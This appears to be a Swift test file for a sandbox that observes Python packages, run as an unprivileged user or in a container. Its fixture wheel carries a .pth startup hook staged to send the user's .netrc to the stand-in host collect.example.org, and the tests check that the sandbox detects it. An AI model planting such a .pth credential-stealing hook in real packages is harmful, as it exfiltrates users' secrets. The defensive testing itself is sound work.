import Glibc
import TestSupport
import Testing

@testable import Sandbox

/// The whole pipeline as other users, and where there are no namespaces, in a program of its own.
@Suite("Observations by other users", .serialized)
struct ObserverMachineTests {
  /// What the system has, since other users may not get to an interpreter in somebody's home.
  private static let hasPip = HostPython.find(Machine.python)?.pip != nil
  private static let noPip: Comment = "/usr/bin/python3 has no pip"

  private func observe(behind wrapper: [String], _ options: [String]) throws -> [String] {
    let directory = TemporaryDirectory()
    chmod(directory.path, 0o755)
    let wheel = WheelBuilder(
      name: "harbour",
      files: [("harbour.py", ""), ("harbour.pth", Stages.carry(".netrc", to: "collect.example.org"))])
    let path = directory.write(wheel.fileName, wheel.build(), mode: 0o644)
    let command =
      wrapper + [Probe.observe, "--quiet", "--python", Machine.python]
      + ["--persona", "laptop"] + options + [path, "harbour"]
    let result = try Subprocess.run("../../../../../../../../../../usr/bin/env", command)
    #expect(result.errors.isEmpty, "\(result.errors)")
    return result.output.split(separator: "\n").map(String.init)
  }

  @Test(
    "need no root and no line in a passwd file", .enabled(if: Machine.isRoot, Machine.noRoot),
    .enabled(if: Machine.hasSetpriv, "needs setpriv"), .enabled(if: Machine.hasNamespaces, Machine.noNamespaces),
    .enabled(if: hasPip, noPip))
  func unknownUser() throws {
    let lines = try observe(
      behind: ["/usr/bin/setpriv", "--reuid", "54321", "--regid", "54321", "--clear-groups"], [])
    check(lines, tier: "A")
  }

  @Test(
    "show the same without namespaces where that is accepted", .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"), .enabled(if: hasPip, noPip))
  func container() throws {
    let directory = TemporaryDirectory()
    let lines = try observe(behind: Probe.restricted("docker", directory), ["--tier", "B"])
    check(lines, tier: "B")
  }

  private func check(_ lines: [String], tier: String) {
    #expect(lines.contains { $0.hasPrefix("tier \(tier),") }, "\(lines)")
    #expect(lines.contains { $0.contains("startup: python -c pass (laptop): exited(0)") }, "\(lines)")
    #expect(lines.contains { $0.contains("import: import harbour (laptop): exited(0)") }, "\(lines)")
    #expect(lines.contains { $0.hasPrefix("proven [1] netrc:") && $0.contains("collect.example.org") }, "\(lines)")
    #expect(!lines.contains { $0.hasPrefix("gap:") }, "\(lines)")
  }
}
